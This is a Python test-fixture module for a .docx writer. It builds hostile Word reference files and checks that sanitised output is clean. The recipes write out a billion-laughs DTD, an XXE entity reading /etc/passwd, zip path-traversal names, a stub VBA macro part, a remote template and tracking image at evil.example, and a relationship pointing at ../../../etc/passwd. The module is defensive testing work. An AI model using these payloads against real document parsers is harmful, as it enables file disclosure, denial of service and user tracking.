"""Hostile reference documents, made from the bundled one, and the checks an output must pass.

Shared by the corpus (tests/corpus/round2.yaml), the property tests (tests/test_fuzz_reference.py)
and the writer tests. Each recipe returns the zip members of a reference document as a list of
(name, bytes): a list, not a dict, so that a recipe can hold one name twice.
"""

from __future__ import annotations

import io
import posixpath
import re
import zipfile
from collections.abc import Callable

from drafter.writers.docx.reference import bundled_reference

RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
Members = list[tuple[str, bytes]]


def bundled() -> Members:
    with zipfile.ZipFile(bundled_reference()) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def zipped(members: Members) -> bytes:
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        warnings.simplefilter("ignore")  # a name twice is the point of some recipes
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buffer.getvalue()


def replace(members: Members, name: str, data: bytes | None) -> Members:
    """`members` with `name` replaced (None removes it; a new name is added)."""
    out = [(n, d) for n, d in members if n != name]
    if data is not None:
        out.append((name, data))
    return out


def get(members: Members, name: str) -> bytes:
    return next(d for n, d in members if n == name)


def add_rel(members: Members, rels: str, rid: str, kind: str, target: str, external: bool = False) -> Members:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{kind if "/" in kind else RT + kind}" Target="{target}"{mode}/>'
    base = dict(members).get(rels) or (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="'
                                       b'http://schemas.openxmlformats.org/package/2006/relationships">'
                                       b"</Relationships>")
    return replace(members, rels, base.replace(b"</Relationships>", rel.encode() + b"</Relationships>"))


def add_override(members: Members, part: str, ctype: str) -> Members:
    types = get(members, "[Content_Types].xml")
    extra = f'<Override PartName="/{part}" ContentType="{ctype}"/>'.encode()
    return replace(members, "[Content_Types].xml", types.replace(b"</Types>", extra + b"</Types>"))


def edit(members: Members, name: str, fn: Callable[[bytes], bytes]) -> Members:
    return replace(members, name, fn(get(members, name)))


def with_header(members: Members, part: str = "word/header1.xml", body: str = "Letterhead") -> Members:
    """A letterhead header: the part, its relationship and a reference in the final section."""
    xml = (f'<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
           f"<w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:hdr>").encode()
    members = replace(members, part, xml)
    members = add_rel(members, "word/_rels/document.xml.rels", "rIdHdr", "header", posixpath.relpath(part, "word"))
    members = add_override(members, part, HEADER_CT)
    ref = f'<w:headerReference xmlns:r="{R_NS}" w:type="default" r:id="rIdHdr"/>'.encode()
    return edit(members, "word/document.xml",
                lambda d: re.sub(rb"<w:sectPr([^>]*)>", rb"<w:sectPr\1>" + ref, d, count=1))


def _laughs() -> bytes:
    """A DTD whose ninth entity expands to a billion "lol"s (if anything expanded it)."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE w:settings [{entities}]>'.encode()


LAUGHS = _laughs()


def r_laughs(m: Members) -> Members:
    return edit(m, "word/settings.xml", lambda d: LAUGHS + d.split(b"?>", 1)[1].replace(
        b"<w:zoom", b"<w:docVars><w:docVar w:name=\"x\" w:val=\"y\"/></w:docVars>&lol9;<w:zoom", 1))


def r_xxe(m: Members) -> Members:
    dtd = b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return edit(m, "word/styles.xml", lambda d: dtd + d.split(b"?>", 1)[1].replace(b"</w:styles>", b"&xxe;</w:styles>"))


def r_dotdot(m: Members) -> Members:
    return [*m, ("../evil.xml", b"<evil/>"), ("word/../../evil2.xml", b"<evil/>"), ("C:/evil3.xml", b"<e/>")]


MSO = "http://schemas.microsoft.com/office/2006/relationships/"


def r_vba(m: Members) -> Members:
    m = [*m, ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro bytes"), ("word/vbaData.xml", b"<wne:vbaSuppData/>")]
    m = add_rel(m, "word/_rels/document.xml.rels", "rIdVba", MSO + "vbaProject", "vbaProject.bin")
    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdVba2", MSO + "vbaProject", "vbaProject.bin")
    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdVbaData", MSO + "wordVbaData", "vbaData.xml")
    return add_override(m, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def r_attached(m: Members) -> Members:
    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdT", "attachedTemplate", "http://evil.example/t.dotm",
                external=True)
    return edit(m, "word/settings.xml", lambda d: d.replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdT"/><w:zoom'.encode(), 1))


def r_external_image(m: Members) -> Members:
    m = with_header(m, body="Letterhead")
    m = add_rel(m, "word/_rels/header1.xml.rels", "rIdImg", "image", "http://evil.example/track.png", external=True)
    m = add_rel(m, "word/_rels/header1.xml.rels", "rIdLink", "hyperlink", "http://evil.example/", external=True)
    return edit(m, "word/header1.xml", lambda d: d.replace(
        b"<w:t>Letterhead</w:t></w:r>", b'<w:t>Letterhead</w:t></w:r><w:hyperlink r:id="rIdLink"><w:r><w:t>site</w:t>'
        b"</w:r></w:hyperlink>"))


def r_rid_clash(m: Members) -> Members:
    return edit(m, "word/_rels/document.xml.rels", lambda d: d.replace(b'Id="rId3"', b'Id="rIdDrafterHeader1"')
                .replace(b'Id="rId5"', b'Id="rIdDrafterFooter1"'))


def r_main_elsewhere(m: Members) -> Members:
    out: Members = []
    for name, data in m:
        if name == "word/document.xml":
            out.append(("doc/main.xml", data))
        elif name == "word/_rels/document.xml.rels":
            out.append(("doc/_rels/main.xml.rels", data.replace(b'Target="', b'Target="../word/')))
        elif name == "_rels/.rels":
            out.append((name, data.replace(b"word/document.xml", b"doc/main.xml")))
        elif name == "[Content_Types].xml":
            out.append((name, data.replace(b"/word/document.xml", b"/doc/main.xml")))
        else:
            out.append((name, data))
    return [*out, ("word/document.xml", b"<decoy/>")]


def r_styles_root(m: Members) -> Members:
    return replace(m, "word/styles.xml", f'<w:document xmlns:w="{W_NS}"/>'.encode())


def r_duplicate(m: Members) -> Members:
    return [*m, ("word/styles.xml", get(m, "word/styles.xml"))]


def r_case_duplicate(m: Members) -> Members:
    return [*m, ("Word/Styles.XML", get(m, "word/styles.xml"))]


def r_rel_core(m: Members) -> Members:
    return add_rel(m, "word/_rels/settings.xml.rels", "rIdCore", "customXml", "../docProps/core.xml")


def r_rel_content_types(m: Members) -> Members:
    return add_rel(m, "word/_rels/settings.xml.rels", "rIdCt", "customXml", "../[Content_Types].xml")


def r_rel_own_rels(m: Members) -> Members:
    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdSelf", "customXml", "_rels/settings.xml.rels")
    return add_rel(m, "word/_rels/document.xml.rels", "rIdMain", "settings", "document.xml")


def r_drafter_names(m: Members) -> Members:
    return with_header(m, "word/drafter-footer1.xml", body="Letterhead named like drafter's footer")


def r_left_1e400(m: Members) -> Members:
    return edit(m, "word/document.xml", lambda d: re.sub(rb'w:left="\d+"', b'w:left="1e400"', d, count=1)
                .replace(b'w:w="11906"', b'w:w="-5"'))


KEY = "00000000-0000-0000-0000-000000000000"


def r_font(m: Members) -> Members:
    m = [*m, ("word/fonts/font1.odttf", b"\x00\x01binary font")]
    m = add_rel(m, "word/_rels/fontTable.xml.rels", "rIdF", "font", "fonts/font1.odttf")
    return edit(m, "word/fontTable.xml", lambda d: d.replace(
        b"</w:font>", f'<w:embedRegular xmlns:r="{R_NS}" r:id="rIdF" w:fontKey="{{{KEY}}}"/></w:font>'.encode(), 1))


def r_backslash(m: Members) -> Members:
    return [(n.replace("/", "\\") if n == "word/settings.xml" else n, d) for n, d in m]


def r_dangling(m: Members) -> Members:
    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdGone", "customXml", "../customXml/missing.xml")
    return add_rel(m, "word/_rels/settings.xml.rels", "rIdOut", "customXml", "../../../etc/passwd")


RECIPES: dict[str, Callable[[Members], Members]] = {
    "xxe": r_xxe, "dotdot": r_dotdot, "vba": r_vba, "attached": r_attached,
    "external-image": r_external_image, "rid-clash": r_rid_clash, "main-elsewhere": r_main_elsewhere,
    "rel-core": r_rel_core, "rel-content-types": r_rel_content_types, "rel-own-rels": r_rel_own_rels,
    "drafter-names": r_drafter_names, "left-1e400": r_left_1e400, "font": r_font, "backslash": r_backslash,
    "dangling": r_dangling,
}
REFUSED = {"laughs": r_laughs, "styles-root": r_styles_root, "duplicate": r_duplicate,
           "case-duplicate": r_case_duplicate}


def everything() -> bytes:
    """One reference holding every recipe that must be sanitised (for the real-client tests)."""
    m = bundled()
    for name, recipe in RECIPES.items():
        if name not in ("main-elsewhere", "drafter-names", "backslash"):
            m = recipe(m)
    return zipped(m)


# -- what every output must be ------------------------------------------------------------------

def check_clean(data: bytes) -> None:
    """Assert that a .docx is safe and whole: normal unique names, no DTD, no external or
    dangling relationship, no duplicate relationship id, no macro or stray binary, a content
    type for every part; and that python-docx opens it."""
    import docx
    from lxml import etree

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = [i.filename for i in z.infolist()]
        parts = {n: z.read(n) for n in names}
    lowered = [n.lower() for n in names]
    assert len(set(lowered)) == len(lowered), f"duplicate members: {names}"
    for n in names:
        assert not n.startswith("/") and ".." not in n.split("/") and "\\" not in n and ":" not in n, n
        assert not re.search(r"vba|\.bin$|\.odttf$", n, re.I), n
        assert b"<!DOCTYPE" not in parts[n] and b"<!ENTITY" not in parts[n], n
        assert b"root:" not in parts[n], n
    assert "word/document.xml" in names
    types = etree.fromstring(parts["[Content_Types].xml"])
    overrides = {o.get("PartName").lstrip("/").lower() for o in types if o.tag.endswith("Override")}
    defaults = {d.get("Extension").lower() for d in types if d.tag.endswith("Default")}
    for o in overrides:
        assert o in lowered, f"override for a missing part {o}"
    for n in names:
        if n != "[Content_Types].xml":
            assert n.lower() in overrides or n.rsplit(".", 1)[-1].lower() in defaults, f"no content type: {n}"
    for n in names:
        if not n.endswith(".rels"):
            continue
        rels = etree.fromstring(parts[n])
        ids = [r.get("Id") for r in rels]
        assert len(set(ids)) == len(ids), f"duplicate ids in {n}: {ids}"
        source = n.replace("_rels/", "")[: -len(".rels")]
        folder = posixpath.dirname(source)
        for r in rels:
            assert r.get("TargetMode") != "External", f"external relationship in {n}: {r.get('Target')}"
            target = r.get("Target")
            full = target.lstrip("/") if target.startswith("/") else posixpath.normpath(posixpath.join(folder, target))
            assert full in parts, f"{n}: {target} points at no part"
            assert full.lower() not in ("[content_types].xml", "docprops/core.xml") or n == "_rels/.rels", (n, full)
            assert not full.endswith(".rels"), (n, full)
    docx.Document(io.BytesIO(data))
